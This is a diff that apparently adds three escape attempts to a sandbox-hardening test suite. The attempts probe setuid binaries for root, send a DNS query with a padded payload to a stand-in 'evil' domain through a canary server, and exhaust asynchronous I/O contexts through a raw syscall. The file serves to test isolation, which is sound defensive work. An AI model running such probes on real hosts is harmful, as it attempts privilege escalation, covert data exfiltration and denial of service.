@@ -328,4 +328,50 @@ os.chmod(path, 0o755)
 print(subprocess.run([path], capture_output=True, text=True).stdout)
 """,
     ),
+    Attempt(
+        15,
+        "be somebody else through the host's set-uid programs",
+        """
+import os, re, subprocess
+found = [f"/usr/bin/{name}" for name in ("su", "passwd", "mount", "newgrp", "chsh") if os.path.exists(f"/usr/bin/{name}")]
+for path in found:
+    process = subprocess.Popen([path], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    os.waitid(os.P_PID, process.pid, os.WEXITED | os.WNOHANG | os.WNOWAIT)
+    try:
+        with open(f"/proc/{process.pid}/status") as file:
+            effective = re.search(r"Uid:\\s+\\d+\\s+(\\d+)", file.read())[1]
+        if effective == "0":
+            print("GOT uid 0 in", path)
+    except OSError as error:
+        print(error)
+    process.kill()
+    process.wait()
+    process.communicate()
+print("looked at", found)
+""",
+    ),
+    Attempt(
+        30,
+        "carry data out in a question to a name server of the host's network",
+        """
+import os, socket
+question = b"\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"\\x3f" + b"s" * 63 + b"\\x04evil\\x00\\x00\\x10\\x00\\x01"
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+    sock.settimeout(2)
+    sock.sendto(question, ("127.0.0.1", int(os.environ["CANARY_DNS"])))
+    print("GOT an answer", sock.recv(512))
+""",
+        without=("netns",),
+    ),
+    Attempt(
+        48,
+        "use up the host's asynchronous I/O contexts",
+        _SYSCALL
+        + """
+context = ctypes.c_ulong(0)
+result, error = call(206 if platform.machine() == "x86_64" else 0, 64, ctypes.byref(context))
+print("GOT a context" if result == 0 else os.strerror(error))
+""",
+        without=("seccomp",),
+    ),
 )
